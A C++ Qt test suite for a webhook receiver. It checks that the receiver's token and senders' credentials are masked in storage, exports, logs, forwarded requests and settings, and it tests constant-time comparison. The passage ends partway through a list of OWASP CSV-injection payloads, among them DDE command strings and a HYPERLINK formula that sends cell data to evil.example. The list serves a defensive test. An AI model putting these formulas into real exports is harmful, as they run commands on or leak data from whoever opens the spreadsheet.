// SPDX-License-Identifier: MIT
// Secrets stay secret: the receiver's token is compared in constant time and never recorded,
// exported, printed, forwarded or written to settings, wherever in a request it arrives (path,
// query, Authorization, headers added by reverse proxies, any custom header); exports redact
// credentials of the senders; and the CSV export defuses spreadsheet formulas (OWASP "CSV
// injection" payloads).
#include <QApplication>
#include <QBuffer>
#include <QDirIterator>
#include <QFile>
#include <QFileInfo>
#include <QHash>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLineEdit>
#include <QLoggingCategory>
#include <QProcess>
#include <QRegularExpression>
#include <QSettings>
#include <QTableView>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QUrl>
#include <QUrlQuery>

#include <memory>

#include "core/common/secrets.h"
#include "core/events/eventparser.h"
#include "core/export/csvwriter.h"
#include "core/export/eventexporter.h"
#include "core/receiver/receiver.h"
#include "core/store/eventstore.h"
#include "tests/support/fixtures.h"
#include "tests/support/httpclient.h"
#include "ui/events/eventtablemodel.h"
#include "ui/events/filterbar.h"
#include "ui/mainwindow.h"

using namespace Qt::StringLiterals;
using namespace Hookscope;

namespace {

const QByteArray Secret = "Zq3-7xV_s3cret-T0ken-9f2Kx";

// Every spelling of the secret that would give it away.
QList<QByteArray> spellings(const QByteArray &secret)
{
    return { secret, QUrl::toPercentEncoding(QString::fromLatin1(secret)), secret.toBase64(),
             QUrl::toPercentEncoding(QString::fromLatin1(secret), {}, "-_") };
}

bool leaks(const QByteArray &text, const QByteArray &secret = Secret)
{
    for (const QByteArray &s : spellings(secret))
        if (text.contains(s))
            return true;
    return false;
}

// Everything of a stored request that could carry a secret.
QByteArray recordedRequest(const Event &e)
{
    QByteArray all = e.method.toUtf8() + ' ' + e.path.toUtf8() + '?' + e.query.toUtf8() + '\n';
    for (const auto &[name, value] : e.headers)
        all += name + ": " + value + '\n';
    return all;
}

quint16 freePort()
{
    QTcpServer probe;
    probe.listen(QHostAddress::LocalHost, 0);
    return probe.serverPort();
}

// Every spelling of every byte percent-encoded ("%73%33%63…").
QByteArray percentEncodedEveryByte(const QByteArray &text)
{
    QByteArray out;
    for (const char c : text)
        out += '%' + QByteArray::number(uchar(c), 16).toUpper().rightJustified(2, '0');
    return out;
}

// A forwarding target: records every byte it receives and answers each request (framed by
// Content-Length) with 204.
class FakeTarget
{
public:
    FakeTarget()
    {
        m_server.setProxy(QNetworkProxy::NoProxy);
        QObject::connect(&m_server, &QTcpServer::newConnection, &m_server, [this] {
            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
                auto *pending = new QByteArray;
                QObject::connect(socket, &QObject::destroyed, socket,
                                 [pending] { delete pending; });
                QObject::connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
                QObject::connect(socket, &QTcpSocket::readyRead, socket, [this, socket, pending] {
                    const QByteArray bytes = socket->readAll();
                    m_raw += bytes;
                    *pending += bytes;
                    for (;;) {
                        const qsizetype end = pending->indexOf("\r\n\r\n");
                        if (end < 0)
                            return;
                        const QByteArray head = pending->left(end + 4);
                        const QRegularExpressionMatch length =
                                QRegularExpression(u"(?im)^content-length:\\s*(\\d+)"_s)
                                        .match(QString::fromLatin1(head));
                        const qsizetype bodySize =
                                length.hasMatch() ? length.captured(1).toLongLong() : 0;
                        if (pending->size() < end + 4 + bodySize)
                            return;
                        m_requests.append({ head, pending->mid(end + 4, bodySize) });
                        pending->remove(0, end + 4 + bodySize);
                        socket->write("HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n");
                    }
                });
            }
        });
    }

    bool listen() { return m_server.listen(QHostAddress::LocalHost, 0); }
    QUrl url() const { return QUrl(u"http://127.0.0.1:%1/sink"_s.arg(m_server.serverPort())); }
    QByteArray raw() const { return m_raw; }
    qsizetype requestCount() const { return m_requests.size(); }
    // Heads (request line and headers) and bodies, in the order they were complete.
    const QList<QPair<QByteArray, QByteArray>> &requests() const { return m_requests; }

private:
    QTcpServer m_server;
    QByteArray m_raw;
    QList<QPair<QByteArray, QByteArray>> m_requests;
};

// The value of header `name` in a request head (empty when absent).
QByteArray headerIn(const QByteArray &head, QByteArrayView name)
{
    for (const QByteArray &line : head.split('\n')) {
        const qsizetype colon = line.indexOf(':');
        if (colon > 0
            && QByteArrayView(line).first(colon).trimmed().compare(name, Qt::CaseInsensitive) == 0)
            return line.mid(colon + 1).trimmed();
    }
    return {};
}

bool hasHeader(const QByteArray &head, QByteArrayView name)
{
    for (const QByteArray &line : head.split('\n')) {
        const qsizetype colon = line.indexOf(':');
        if (colon > 0
            && QByteArrayView(line).first(colon).trimmed().compare(name, Qt::CaseInsensitive) == 0)
            return true;
    }
    return false;
}

// Runs `hookscope` to the end; its standard output, standard error appended to *log.
std::optional<QByteArray> runHookscope(const QStringList &args, QByteArray *log)
{
    QProcess p;
    p.start(QStringLiteral(HOOKSCOPE_EXE), args);
    if (!p.waitForStarted(10000) || !p.waitForFinished(120000))
        return std::nullopt;
    *log += p.readAllStandardError();
    if (p.exitStatus() != QProcess::NormalExit || p.exitCode() != 0) {
        qWarning("hookscope %s: exit %d\n%s", qPrintable(args.join(u' ')), p.exitCode(),
                 log->constData());
        return std::nullopt;
    }
    return p.readAllStandardOutput();
}

} // namespace

class tst_Secrets final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();

    void constantTimeEquals_data();
    void constantTimeEquals();
    void secretNeverRecorded_data();
    void secretNeverRecorded();
    void exportsCarryNoSecret_data();
    void exportsCarryNoSecret();
    void listenOutputCarriesNoSecret_data();
    void listenOutputCarriesNoSecret();
    void maskedEverywhere_data();
    void maskedEverywhere();
    void settingsCarryNoSecret();
    void formulaInjection_data();
    void formulaInjection();

private:
    bool startReceiver(const QString &secret);
    std::optional<HttpClient::Response> post(const QByteArray &target,
                                             const QList<QPair<QByteArray, QByteArray>> &headers,
                                             const QByteArray &body);

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<EventStore> m_store;
    std::unique_ptr<Receiver> m_receiver;
};

void tst_Secrets::initTestCase()
{
    QLoggingCategory::setFilterRules(u"hookscope.*.info=false\nhookscope.receiver.warning=false"_s);
}

void tst_Secrets::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_store = std::make_unique<EventStore>();
    QVERIFY2(m_store->open(m_dir->path()), qPrintable(m_store->errorString()));
    m_receiver = std::make_unique<Receiver>(m_store.get());
}

void tst_Secrets::cleanup()
{
    m_receiver.reset();
    m_store.reset();
    m_dir.reset();
}

bool tst_Secrets::startReceiver(const QString &secret)
{
    ReceiverConfig config;
    config.port = 0;
    config.secret = secret;
    m_receiver->setConfig(config);
    return m_receiver->start();
}

std::optional<HttpClient::Response>
tst_Secrets::post(const QByteArray &target, const QList<QPair<QByteArray, QByteArray>> &headers,
                  const QByteArray &body)
{
    HttpClient::SocketClient client;
    if (!client.connectTo(m_receiver->port()))
        return std::nullopt;
    return client.exchange(HttpClient::request("POST", target, headers, body));
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::constantTimeEquals_data()
{
    QTest::addColumn<QByteArray>("a");
    QTest::addColumn<QByteArray>("b");
    QTest::addColumn<bool>("equal");
    QTest::addRow("same") << Secret << Secret << true;
    QTest::addRow("first byte differs") << Secret << "X" + Secret.mid(1) << false;
    QTest::addRow("last byte differs") << Secret << Secret.chopped(1) + "X" << false;
    QTest::addRow("one bit differs") << QByteArray("abcd") << QByteArray("abce") << false;
    QTest::addRow("prefix") << Secret << Secret.left(10) << false;
    QTest::addRow("longer") << Secret << Secret + "x" << false;
    QTest::addRow("padded with NUL") << Secret << Secret + QByteArray(1, '\0') << false;
    QTest::addRow("embedded NUL, same") << QByteArray("a\0b", 3) << QByteArray("a\0b", 3) << true;
    QTest::addRow("embedded NUL, differs after it")
            << QByteArray("a\0b", 3) << QByteArray("a\0c", 3) << false;
    QTest::addRow("high bytes") << QByteArray("\xff\xfe") << QByteArray("\xff\xfe") << true;
    QTest::addRow("high bytes differ") << QByteArray("\xff\xfe") << QByteArray("\xff\xff") << false;
    QTest::addRow("case differs") << QByteArray("token") << QByteArray("TOKEN") << false;
    // An empty secret never matches: an empty token must not unlock a receiver.
    QTest::addRow("both empty") << QByteArray() << QByteArray() << false;
    QTest::addRow("empty and not") << QByteArray() << Secret << false;
    QTest::addRow("not and empty") << Secret << QByteArray() << false;
}

void tst_Secrets::constantTimeEquals()
{
    QFETCH(QByteArray, a);
    QFETCH(QByteArray, b);
    QFETCH(bool, equal);
    QCOMPARE(Secrets::constantTimeEquals(a, b), equal);
    QCOMPARE(Secrets::constantTimeEquals(b, a), equal);
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::secretNeverRecorded_data()
{
    QTest::addColumn<QByteArray>("target");
    QTest::addColumn<QByteArray>("authorization");
    QTest::addColumn<int>("status");
    const QByteArray s = Secret;
    const QByteArray encoded = QUrl::toPercentEncoding(QString::fromLatin1(s), {}, "-_");
    QTest::addRow("path") << "/hooks/" + s << QByteArray() << 200;
    QTest::addRow("path, percent-encoded") << "/hooks/" + encoded << QByteArray() << 200;
    QTest::addRow("path with more segments")
            << "/hooks/" + s + "/thena/events" << QByteArray() << 200;
    QTest::addRow("path with the secret twice") << "/hooks/" + s + '/' + s << QByteArray() << 200;
    QTest::addRow("query") << "/in?token=" + s << QByteArray() << 200;
    QTest::addRow("query, percent-encoded") << "/in?token=" + encoded << QByteArray() << 200;
    QTest::addRow("query twice") << "/in?token=" + s + "&x=1&token=" + s << QByteArray() << 200;
    QTest::addRow("path and query") << "/hooks/" + s + "?token=" + s << QByteArray() << 200;
    QTest::addRow("bearer") << QByteArray("/in") << "Bearer " + s << 200;
    QTest::addRow("lower-case bearer") << QByteArray("/in") << "bearer " + s << 200;
    QTest::addRow("static header") << QByteArray("/in") << s << 200;
    QTest::addRow("header and path") << "/hooks/" + s << "Bearer " + s << 200;
    // Refused requests are not stored at all.
    QTest::addRow("wrong token in the path") << "/hooks/" + s.chopped(1) << QByteArray() << 401;
    QTest::addRow("secret outside /hooks") << "/" + s << QByteArray() << 401;
}

void tst_Secrets::secretNeverRecorded()
{
    QFETCH(QByteArray, target);
    QFETCH(QByteArray, authorization);
    QFETCH(int, status);
    QVERIFY(startReceiver(QString::fromLatin1(Secret)));

    QList<QPair<QByteArray, QByteArray>> headers{ { "Content-Type", "application/json" } };
    if (!authorization.isEmpty())
        headers.append({ "Authorization", authorization });
    const QByteArray body = Fixtures::read(u"platform-ticket-created.json"_s);
    const std::optional<HttpClient::Response> r = post(target, headers, body);
    QVERIFY(r.has_value());
    QCOMPARE(r->status, status);
    QVERIFY(!leaks(r->body));
    if (status != 200) {
        QCOMPARE(m_store->count(), 0);
        return;
    }
    const std::optional<Event> e =
            m_store->event(QJsonDocument::fromJson(r->body).object().value(u"id"_s).toInteger());
    QVERIFY(e.has_value());
    QCOMPARE(e->body, body);
    const QByteArray recorded = recordedRequest(*e);
    QVERIFY2(!leaks(recorded), recorded.constData());
    // The receiver's own displays mask it too.
    QVERIFY(!leaks(m_receiver->displayUrl().toUtf8()));
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::exportsCarryNoSecret_data()
{
    QTest::addColumn<int>("format");
    QTest::addColumn<QStringList>("columns");
    const QStringList archive =
            EventExporter::defaultColumns(); // JSON Lines: with request and headers
    const QStringList all =
            EventExporter::builtinColumns() + QStringList{ u"payload.ticket.title"_s };
    QTest::addRow("CSV, default columns") << int(EventExporter::Format::Csv) << archive;
    QTest::addRow("CSV, every column") << int(EventExporter::Format::Csv) << all;
    QTest::addRow("JSON Lines archive") << int(EventExporter::Format::JsonLines) << archive;
    QTest::addRow("JSON Lines, every column") << int(EventExporter::Format::JsonLines) << all;
}

void tst_Secrets::exportsCarryNoSecret()
{
    QFETCH(int, format);
    QFETCH(QStringList, columns);
    QVERIFY(startReceiver(QString::fromLatin1(Secret)));

    // The receiver's token in every place it can arrive, plus the senders' own credentials
    // (an API key, a cookie, tokens in the query) that exports redact.
    const QByteArray apiKey = "thena-api-key-5f1d2c9e";
    const QByteArray cookie = "session=cookie-value-77a1";
    const QByteArray accessToken = "access-token-0b8e";
    const QByteArray body = Fixtures::read(u"platform-ticket-created.json"_s);
    const QList<QByteArray> targets = { "/hooks/" + Secret + "/x?api_key=" + apiKey,
                                        "/in?token=" + Secret + "&access_token=" + accessToken,
                                        "/in" };
    for (const QByteArray &target : targets) {
        const std::optional<HttpClient::Response> r =
                post(target,
                     { { "Content-Type", "application/json" },
                       { "Authorization", "Bearer " + Secret },
                       { "X-Api-Key", apiKey },
                       { "Cookie", cookie },
                       { "Proxy-Authorization", "Basic " + apiKey.toBase64() } },
                     body);
        QVERIFY(r.has_value());
        QCOMPARE(r->status, 200);
    }
    QCOMPARE(m_store->count(), targets.size());

    QByteArray out;
    QBuffer buffer(&out);
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    EventExporter exporter(&buffer, EventExporter::Format(format), columns);
    QVERIFY(exporter.begin());
    QVERIFY(m_store->forEachEvent([&](const Event &e) { return exporter.write(e); }));
    QVERIFY(exporter.finish());
    QCOMPARE(exporter.rowsWritten(), targets.size());
    QVERIFY(!out.isEmpty());
    QVERIFY2(!leaks(out), out.left(2000).constData());
    for (const QByteArray &credential : { apiKey, cookie, accessToken })
        QVERIFY2(!leaks(out, credential),
                 qPrintable(u"%1 in: %2"_s.arg(QString::fromLatin1(credential),
                                               QString::fromUtf8(out.left(2000)))));
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::listenOutputCarriesNoSecret_data()
{
    QTest::addColumn<bool>("json");
    QTest::addColumn<bool>("fromEnvironment");
    QTest::addRow("text, --secret") << false << false;
    QTest::addRow("JSON Lines, HOOKSCOPE_SECRET") << true << true;
}

void tst_Secrets::listenOutputCarriesNoSecret()
{
    QFETCH(bool, json);
    QFETCH(bool, fromEnvironment);
    const quint16 port = freePort();
    QStringList args{ u"listen"_s, u"--data-dir"_s,       m_dir->filePath(u"listen"_s),
                      u"--port"_s, QString::number(port), u"--max-body"_s,
                      u"100000"_s };
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    // Every log line there is, debug included.
    env.insert(u"QT_LOGGING_RULES"_s, u"*.debug=true\nqt.*.debug=false"_s);
    if (fromEnvironment)
        env.insert(u"HOOKSCOPE_SECRET"_s, QString::fromLatin1(Secret));
    else
        args << u"--secret"_s << QString::fromLatin1(Secret);
    if (json)
        args << u"--json"_s;
    QProcess listen;
    listen.setProcessEnvironment(env);
    listen.start(QStringLiteral(HOOKSCOPE_EXE), args);
    QVERIFY(listen.waitForStarted(10000));
    QByteArray err;
    QVERIFY(QTest::qWaitFor(
            [&] {
                err += listen.readAllStandardError();
                return err.contains("Listening on") || listen.state() != QProcess::Running;
            },
            30000));
    QVERIFY2(err.contains("Listening on"), err.constData());

    const QByteArray body = Fixtures::read(u"legacy-request-created.json"_s);
    const QByteArray encoded = QUrl::toPercentEncoding(QString::fromLatin1(Secret), {}, "-_");
    struct Attempt
    {
        QByteArray target;
        QByteArray authorization;
        qint64 bodyBytes;
        int status;
    };
    const QList<Attempt> attempts = {
        { "/hooks/" + Secret, {}, body.size(), 200 },
        { "/hooks/" + encoded + "/more?x=1", {}, body.size(), 200 },
        { "/in?token=" + Secret, {}, body.size(), 200 },
        { "/in", "Bearer " + Secret, body.size(), 200 },
        { "/hooks/" + Secret.chopped(1), {}, body.size(), 401 }, // a near miss
        { "/in?token=" + Secret + "x", "Bearer nope", body.size(), 401 },
        { "/hooks/" + Secret, {}, 200000, 413 }, // refused before the body
        { "/hooks/" + Secret + "/bad-json", {}, -1, 400 },
    };
    for (const Attempt &a : attempts) {
        QList<QPair<QByteArray, QByteArray>> headers{ { "Content-Type", "application/json" } };
        if (!a.authorization.isEmpty())
            headers.append({ "Authorization", a.authorization });
        HttpClient::UploadPlan plan;
        const QByteArray payload = a.bodyBytes < 0 ? QByteArray("{\"broken\": ")
                : a.bodyBytes == body.size()       ? body
                                                   : QByteArray();
        plan.head = HttpClient::request("POST", a.target, headers, payload,
                                        payload.size() > 0 || a.bodyBytes < 0);
        if (a.bodyBytes > body.size()) {
            plan.head = "POST " + a.target
                    + " HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: "
                      "application/json\r\nContent-Length: "
                    + QByteArray::number(a.bodyBytes) + "\r\n\r\n";
            plan.bodyBytes = a.bodyBytes;
        }
        const HttpClient::UploadResult r = HttpClient::upload(
                port, plan, 30000, [&] { err += listen.readAllStandardError(); });
        QVERIFY(r.finished);
        const std::optional<HttpClient::Response> response = r.response();
        QVERIFY2(response.has_value(), a.target.constData());
        QCOMPARE(response->status, a.status);
        QVERIFY(!leaks(response->body));
    }
    listen.terminate();
    QVERIFY(listen.waitForFinished(30000));
    err += listen.readAllStandardError();
    const QByteArray out = listen.readAllStandardOutput();
    QVERIFY2(out.count('\n') >= 5, out.constData()); // one line per stored event
    QVERIFY2(err.contains("refused 401") && err.contains("refused 413"), err.constData());
    QVERIFY2(!leaks(out), out.constData());
    QVERIFY2(!leaks(err), err.constData());
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::maskedEverywhere_data()
{
    QTest::addColumn<QByteArray>("secret");
    // Only unreserved characters: its percent-encoded form is itself, but senders may still
    // encode some or all of its bytes.
    QTest::addRow("plain token") << QByteArray("s3cr3t-Zq9x7Lp2");
    // Characters a URL carries percent-encoded (the receiver masks that form too).
    QTest::addRow("token with reserved characters") << QByteArray("s3cr3t:Zq9+x7@Lp2");
}

// The acceptance test: the real `hookscope listen`, its secret from --secret-file, forwarding
// to a local target, gets the secret in every place a request can carry it. Afterwards the
// secret is in none of the data folder's files, no export format, no log line and no byte the
// forwarding target received; and the events are there, with [secret] where it was.
void tst_Secrets::maskedEverywhere()
{
    QFETCH(QByteArray, secret);
    const QByteArray urlEncoded = QUrl::toPercentEncoding(QString::fromLatin1(secret));
    const QByteArray dashEncoded = QUrl::toPercentEncoding(QString::fromLatin1(secret), {}, "-_");
    const QByteArray everyByte = percentEncodedEveryByte(secret);

    const QString dataDir = m_dir->filePath(u"data"_s);
    const QString outDir = m_dir->filePath(u"out"_s);
    QVERIFY(QDir().mkpath(dataDir) && QDir().mkpath(outDir));
    const QString secretFile = m_dir->filePath(u"receiver-secret"_s); // outside the data folder
    {
        QFile f(secretFile);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(secret + '\n');
    }

    FakeTarget target;
    QVERIFY(target.listen());

    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(u"QT_LOGGING_RULES"_s, u"*.debug=true\nqt.*.debug=false"_s); // every log line
    env.remove(u"HOOKSCOPE_SECRET"_s);
    for (const QString &proxy : { u"http_proxy"_s, u"HTTP_PROXY"_s, u"https_proxy"_s,
                                  u"HTTPS_PROXY"_s, u"all_proxy"_s, u"ALL_PROXY"_s })
        env.remove(proxy);
    QProcess listen;
    listen.setProcessEnvironment(env);
    const QStringList listenArgs{ u"listen"_s,
                                  u"--data-dir"_s,
                                  dataDir,
                                  u"--port"_s,
                                  u"0"_s,
                                  u"--secret-file"_s,
                                  secretFile,
                                  u"--forward-to"_s,
                                  target.url().toString(),
                                  u"--forward-retries"_s,
                                  u"0"_s };
    // The command line carries no secret (`ps` shows it).
    QVERIFY(!leaks(listenArgs.join(u' ').toUtf8(), secret));
    listen.start(QStringLiteral(HOOKSCOPE_EXE), listenArgs);
    QVERIFY(listen.waitForStarted(10000));
    QByteArray err;
    QByteArray out;
    const auto drain = [&] {
        err += listen.readAllStandardError();
        out += listen.readAllStandardOutput();
    };
    static const QRegularExpression listening(u"Listening on http://127\\.0\\.0\\.1:(\\d+)/"_s);
    QVERIFY(QTest::qWaitFor(
            [&] {
                drain();
                return listening.match(QString::fromUtf8(err)).hasMatch()
                        || listen.state() != QProcess::Running;
            },
            30000));
    const QRegularExpressionMatch match = listening.match(QString::fromUtf8(err));
    QVERIFY2(match.hasMatch(), err.constData());
    const auto port = quint16(match.captured(1).toUInt());

    // What reverse proxies and senders add, on every delivery: the original URI, the
    // referring URL, a custom header, a header the Connection header names (for this hop
    // only) carrying the secret, and one that carries nothing.
    const QList<QPair<QByteArray, QByteArray>> common{
        { "Content-Type", "application/json" },
        { "X-Original-URI", "/hooks/" + secret + "?a=1" },
        { "X-Forwarded-Uri", "/hooks/" + secret + "/thena/events?token=" + secret },
        { "Referer", "https://proxy/hooks/" + secret },
        { "X-Custom", "pre-" + secret + "-post" },
        { "X-Custom-Encoded", "pre-" + urlEncoded + "-post" },
        { "Cookie", "sid=" + secret },
        { "Connection", "keep-alive, X-Hop, X-Hop-Plain" },
        { "X-Hop", "hop-" + secret },
        { "X-Hop-Plain", "nothing-secret" },
        { "X-Benign", "kept" },
    };
    struct Delivery
    {
        QByteArray method;
        QByteArray target;
        QByteArray authorization;
        int status;
    };
    const QList<Delivery> deliveries{
        { "POST", "/hooks/" + secret, {}, 200 },
        { "POST", "/in?token=" + secret + "&x=" + secret, {}, 200 },
        { "POST", "/in", "Bearer " + secret, 200 },
        { "POST", "/in", secret, 200 }, // the legacy webhooks' static header value
        { "POST",
          "/hooks/" + everyByte + "/thena/events?x=" + dashEncoded + "&y=" + everyByte,
          {},
          200 },
        { "POST", "/in?token=" + urlEncoded + "&z=" + urlEncoded, {}, 200 },
        { "PUT", "/hooks/" + secret + "/more?token=" + secret + "&x=pre-" + secret + "-post",
          "Bearer " + secret, 200 },
        // The secret only in headers that are no credential: refused, nothing stored.
        { "POST", "/in?x=" + secret, {}, 401 },
    };
    const QByteArray body = Fixtures::read(u"platform-ticket-created.json"_s);
    QVERIFY(!leaks(body, secret));
    int stored = 0;
    for (const Delivery &d : deliveries) {
        QList<QPair<QByteArray, QByteArray>> headers = common;
        if (!d.authorization.isEmpty())
            headers.append({ "Authorization", d.authorization });
        HttpClient::SocketClient client;
        QVERIFY(client.connectTo(port));
        const std::optional<HttpClient::Response> r =
                client.exchange(HttpClient::request(d.method, d.target, headers, body));
        QVERIFY2(r.has_value(), d.target.constData());
        QCOMPARE(r->status, d.status);
        QVERIFY2(!leaks(r->body, secret), r->body.constData());
        stored += d.status == 200;
        drain();
    }

    // Every stored event is forwarded once.
    QTRY_COMPARE_WITH_TIMEOUT(target.requestCount(), qsizetype(stored), 60000);
    QTRY_COMPARE_WITH_TIMEOUT((drain(), err.count(" forwarded: 204")), qsizetype(stored), 60000);

    listen.terminate(); // SIGTERM: commit, stop, close the store cleanly
    QVERIFY(listen.waitForFinished(30000));
    drain();
    QCOMPARE(listen.exitStatus(), QProcess::NormalExit);
    QVERIFY2(listen.exitCode() == 0, err.constData());
    QVERIFY2(err.contains(QByteArray("Stopped; %1 events stored.")
                                  .replace("%1", QByteArray::number(stored))),
             err.constData());

    // 1. The data folder, byte for byte: events.db and whatever lies beside it (-wal, -shm,
    //    the clean-close stamp, …).
    QByteArray files;
    QStringList names;
    QDirIterator it(dataDir, QDir::Files | QDir::Hidden | QDir::System,
                    QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        QFile f(path);
        QVERIFY2(f.open(QIODevice::ReadOnly), qPrintable(path));
        const QByteArray content = f.readAll();
        QVERIFY2(!leaks(content, secret), qPrintable(u"the secret is in "_s + path));
        names.append(QFileInfo(path).fileName());
        files += content;
    }
    QVERIFY2(names.contains(u"events.db"_s), qPrintable(names.join(u", "_s)));
    // Not by storing nothing: the events are there, the secret masked in them.
    QVERIFY2(files.contains("/hooks/[secret]"), qPrintable(names.join(u", "_s)));
    QVERIFY(files.contains("pre-[secret]-post"));

    // 2. Every export format, to standard output and to a file, default and every column.
    struct Export
    {
        QString format;
        QStringList extra;
    };
    const QString everyColumn = EventExporter::builtinColumns().join(u',');
    const QList<Export> exports{
        { u"csv"_s, {} },
        { u"csv"_s, { u"--columns"_s, everyColumn } },
        { u"csv"_s, { u"--bom"_s } },
        { u"jsonl"_s, {} },
        { u"jsonl"_s, { u"--columns"_s, everyColumn } },
        { u"har"_s, {} },
    };
    QByteArray exportLog;
    QByteArray jsonl;
    QByteArray har;
    for (qsizetype i = 0; i < exports.size(); ++i) {
        const Export &e = exports.at(i);
        const QStringList args =
                QStringList{ u"export"_s, u"--data-dir"_s, dataDir, u"--format"_s, e.format }
                + e.extra;
        const std::optional<QByteArray> toStdout =
                runHookscope(args + QStringList{ u"-o"_s, u"-"_s }, &exportLog);
        QVERIFY2(toStdout.has_value(), qPrintable(args.join(u' ')));
        const QString file = QDir(outDir).filePath(u"export-%1.%2"_s.arg(i).arg(e.format));
        QVERIFY(runHookscope(args + QStringList{ u"-o"_s, file }, &exportLog).has_value());
        QFile f(file);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QByteArray written = f.readAll();
        QCOMPARE(written, *toStdout);
        QVERIFY2(!toStdout->isEmpty(), qPrintable(args.join(u' ')));
        QVERIFY2(!leaks(*toStdout, secret),
                 qPrintable(args.join(u' ') + u'\n' + QString::fromUtf8(toStdout->left(4000))));
        if (e.format == "jsonl"_L1 && e.extra.isEmpty())
            jsonl = *toStdout;
        if (e.format == "har"_L1)
            har = *toStdout;
    }
    QVERIFY2(!leaks(exportLog, secret), exportLog.constData());
    QCOMPARE(jsonl.count('\n'), qsizetype(stored));
    QVERIFY(jsonl.contains("/hooks/[secret]"));
    QCOMPARE(QJsonDocument::fromJson(har)
                     .object()
                     .value(u"log"_s)
                     .toObject()
                     .value(u"entries"_s)
                     .toArray()
                     .size(),
             stored);

    // 3. The logs: everything `listen` printed, every category at debug.
    QVERIFY2(out.count('\n') >= stored, out.constData()); // one line per stored event
    QVERIFY2(err.contains("refused 401"), err.constData());
    QVERIFY2(!leaks(out, secret), out.constData());
    QVERIFY2(!leaks(err, secret), err.constData());

    // 4. The forwarding target: no secret, no [secret] placeholder, no header the Connection
    //    header named; but the requests themselves, with their bodies and plain headers.
    QVERIFY2(!leaks(target.raw(), secret), target.raw().left(4000).constData());
    QVERIFY2(!target.raw().contains("[secret]"), target.raw().left(4000).constData());
    QCOMPARE(target.requests().size(), stored);
    for (const auto &[head, forwardedBody] : target.requests()) {
        QVERIFY2(head.startsWith("POST /sink ") || head.startsWith("PUT /sink "), head.constData());
        QCOMPARE(forwardedBody, body);
        QCOMPARE(headerIn(head, "X-Benign"), QByteArray("kept"));
        QCOMPARE(headerIn(head, "Content-Type"), QByteArray("application/json"));
        for (const char *name :
             { "Authorization", "X-Hop", "X-Hop-Plain", "X-Custom", "X-Custom-Encoded",
               "X-Original-URI", "X-Forwarded-Uri", "Referer", "Cookie" })
            QVERIFY2(!hasHeader(head, name), head.constData());
    }

    // 5. What the store holds, read back: the secret masked in place, the rest as sent.
    EventStore store;
    QVERIFY2(store.openReadOnly(dataDir), qPrintable(store.errorString()));
    QCOMPARE(store.count(), qint64(stored));
    int withHooksPath = 0;
    QVERIFY(store.forEachEvent([&](const Event &e) {
        const QByteArray recorded = recordedRequest(e);
        if (leaks(recorded, secret))
            qWarning("recorded: %s", recorded.constData());
        withHooksPath += e.path.startsWith(u"/hooks/[secret]"_s);
        QHash<QByteArray, QByteArray> headers;
        for (const auto &[name, value] : e.headers)
            headers.insert(name.toLower(), value);
        if (headers.value("x-custom") != "pre-[secret]-post"
            || headers.value("x-original-uri") != "/hooks/[secret]?a=1"
            || headers.value("referer") != "https://proxy/hooks/[secret]"
            || headers.value("x-benign") != "kept" || e.body != body) {
            qWarning("recorded: %s", recorded.constData());
            return false;
        }
        return !leaks(recorded, secret);
    }));
    QCOMPARE(withHooksPath, 3);
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::settingsCarryNoSecret()
{
    // The GUI's settings go to a folder of this test's own.
    QTemporaryDir settingsDir;
    QSettings::setPath(QSettings::NativeFormat, QSettings::UserScope, settingsDir.path());
    QSettings::setPath(QSettings::IniFormat, QSettings::UserScope, settingsDir.path());
    QCoreApplication::setOrganizationName(u"HookscopeSecretsTest"_s);
    QCoreApplication::setApplicationName(u"tst_secrets"_s);

    QVERIFY(startReceiver(QString::fromLatin1(Secret)));
    const std::optional<HttpClient::Response> r = post(
            "/hooks/" + Secret,
            { { "Content-Type", "application/json" }, { "Authorization", "Bearer " + Secret } },
            Fixtures::read(u"platform-ticket-created.json"_s));
    QVERIFY(r.has_value());
    QCOMPARE(r->status, 200);
    {
        MainWindow window(m_store.get(), m_receiver.get(), m_dir->path());
        window.show();
        QVERIFY(QTest::qWaitForWindowExposed(&window));
        QTRY_COMPARE(window.model()->rowCount(), 1);
        // Use it: a filter, the inspector on the stored event, the status bar's URL.
        window.filterBar()->setText(u"ticket:*"_s);
        window.table()->selectRow(0);
        QVERIFY(!leaks(window.statusText().toUtf8()));
        window.close(); // saves the settings
    }
    QSettings().sync();

    int files = 0;
    QDirIterator it(settingsDir.path(), QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        QFile f(path);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QByteArray content = f.readAll();
        ++files;
        QVERIFY2(!leaks(content), qPrintable(path));
    }
    QVERIFY2(files > 0, "the window wrote no settings file where the test looked");
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::formulaInjection_data()
{
    // OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection), and
    // the usual variants.
    QTest::addColumn<QString>("payload");
    const QStringList payloads = {
        u"=cmd|' /C calc'!A0"_s,
        u"=cmd|' /C notepad'!'A1'"_s,
        u"=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2,\"Error: please click for further information\")"_s,
        u"+cmd|' /C calc'!A0"_s,
        u"-cmd|' /C calc'!A0"_s,
        u"-2+3+cmd|' /C calc'!A0"_s,
